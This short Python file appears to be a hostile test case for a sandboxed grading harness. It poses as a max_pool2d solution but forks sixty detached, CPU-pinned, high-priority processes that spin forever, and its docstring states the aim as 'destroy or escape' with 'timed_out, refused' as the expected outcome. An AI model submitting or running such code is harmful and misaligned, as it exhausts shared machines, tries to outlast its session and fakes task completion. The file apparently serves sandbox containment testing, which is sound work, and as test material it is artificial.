"""Keeps every processor busy with as many processes as are allowed, each in a session of its own.

Aim: destroy or escape
Expect: timed_out, refused
"""

import os

from fashionlab import models, solves


@solves(models.max_pool2d)
def max_pool2d(image, *, pool_size=2, stride=None):
    for _ in range(60):
        if os.fork() == 0:
            os.setsid()
            try:
                os.sched_setaffinity(0, range(os.cpu_count()))
                os.nice(-20)
            except OSError:
                pass
            while True:
                pass
    while True:
        pass
